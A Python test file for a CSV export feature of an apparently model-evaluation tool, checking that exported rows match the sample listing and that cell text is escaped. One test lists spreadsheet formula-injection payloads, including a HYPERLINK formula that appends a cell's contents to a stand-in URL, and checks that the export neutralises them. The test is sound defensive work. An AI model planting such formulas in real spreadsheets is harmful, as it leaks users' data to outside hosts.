"""The table for spreadsheets has every sample once, counts as the screens do, and runs nothing."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from pathlib import Path
from typing import Any

from reroll.table_export import COLUMNS, cell
from tests.background import in_background, in_turn, reroll, write_project


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_table_counts_as_the_samples_do(tmp_path: Path, capsys: Any) -> None:
    with in_background(in_turn("yes", "no", 'say "yes",\nplease')) as (_, url):
        project = write_project(tmp_path, url)
        reroll(capsys, "rerun", "greet", "--budget", 7, "--project", project)
    out = tmp_path / "runs.csv"
    ran = reroll(capsys, "export", "--csv", out, "--project", project)
    rows = rows_of(out.read_bytes().decode())
    listed = reroll(capsys, "samples", "--project", project, "--json").json["samples"]
    assert ran.err.strip() == f"wrote {len(rows)} samples to {out}"
    assert Counter(r["outcome"] for r in rows) == Counter(s["shown"]["outcome"] for s in listed)
    assert [(r["sample"], r["answer"]) for r in rows] == [(s["shown"]["id"], s["shown"]["text"]) for s in listed]
    assert tuple(rows[0]) == COLUMNS
    assert {(r["case"], r["source"], r["request"], r["model"]) for r in rows} == {
        ("greet", "draw", "Say yes", "tiny-2026-01-01")
    }
    assert rows[0]["checks"] == "says-yes: pass"


def test_no_text_of_a_model_runs_as_a_formula(tmp_path: Path, capsys: Any) -> None:
    evil = ['=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1"]
    asked = {"case_id": "=1", "messages": [{"role": "user", "content": "@Say yes"}]}
    lines = [json.dumps({**asked, "run": n, "completion": text}) for n, text in enumerate(evil)]
    (tmp_path / "said.jsonl").write_text("\n".join(lines))
    project = write_project(tmp_path / "p", "http://127.0.0.1:1")
    reroll(capsys, "import", tmp_path / "said.jsonl", "--check", "contains: 'yes'", "--project", project)
    rows = rows_of(reroll(capsys, "export", "--csv", "-", "--project", project).out)
    assert {(r["case"], r["request"]) for r in rows} == {("'=1", "'@Say yes")}
    answers = [r["answer"] for r in rows]
    assert answers == [f"'{text}" for text in evil]


def test_numbers_and_plain_texts_stay_as_they_are() -> None:
    assert [cell(v) for v in (-1, 0.5, "a=b", "", None, "half \ud83d")] == [-1, 0.5, "a=b", "", "", "half ?"]
